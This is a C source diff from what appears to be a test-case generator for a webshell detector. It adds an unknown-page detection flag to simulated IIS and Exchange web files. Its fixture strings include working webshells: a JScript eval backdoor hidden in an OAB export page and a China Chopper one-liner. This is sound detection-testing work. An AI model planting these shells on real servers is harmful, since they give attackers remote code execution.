@@ -528,7 +528,7 @@ static void webroot(gen_case *c, const atk *a) {
                               "runat=\"server\">function Page_Load(){eval("
                               "Request[\"%s\"],\"unsafe\");}</script>",
                               a->pw_oab)),
-      GEN_R_YARA_OAB_EXPORT | GEN_R_YARA_CHOPPER_BLOCK,
+      GEN_R_YARA_OAB_EXPORT | GEN_R_YARA_CHOPPER_BLOCK | GEN_R_UNKNOWN_PAGE,
       "OAB vdir export holding a JScript eval shell");
   gen_case_webfile(
       c, gen_case_fmt(c, "%s%s.aspx", auth, a->chopper),
@@ -537,7 +537,8 @@ static void webroot(gen_case *c, const atk *a) {
           "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],"
           "\"unsafe\");%%>",
           a->pw_chop),
-      GEN_R_YARA_CHOPPER_ONELINER, "China Chopper one-liner");
+      GEN_R_YARA_CHOPPER_ONELINER | GEN_R_UNKNOWN_PAGE,
+      "China Chopper one-liner");
   gen_case_webfile(
       c, gen_case_fmt(c, "%sRedirSuiteServerProxy.aspx", auth),
       gen_case_fmt(c,
@@ -575,8 +576,12 @@ static void webroot(gen_case *c, const atk *a) {
                                 error_fe, a->shell),
                    GEN_R_MODIFIED_STOCK, "stock errorFE.aspx, edited");
   baseline(c, logon_aspx, error_fe);
+  /* A benign OAB export, but a page of no stock name in aspnet_client:
+     spoor.file.unknown_page (medium). */
   gen_case_webfile(c, gen_case_fmt(c, "%sOabVdirExport.aspx", sysweb),
-                   oab_export(c, a, "https://" GEN_MAIL_HOST "/OAB"), 0, NULL);
+                   oab_export(c, a, "https://" GEN_MAIL_HOST "/OAB"),
+                   GEN_R_UNKNOWN_PAGE,
+                   "page of no stock name in aspnet_client");
   gen_case_webfile(c, "inetpub/wwwroot/iisstart.htm",
                    "<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server"
                    "</title></head><body><img src=\"iisstart.png\" alt=\"IIS\">"
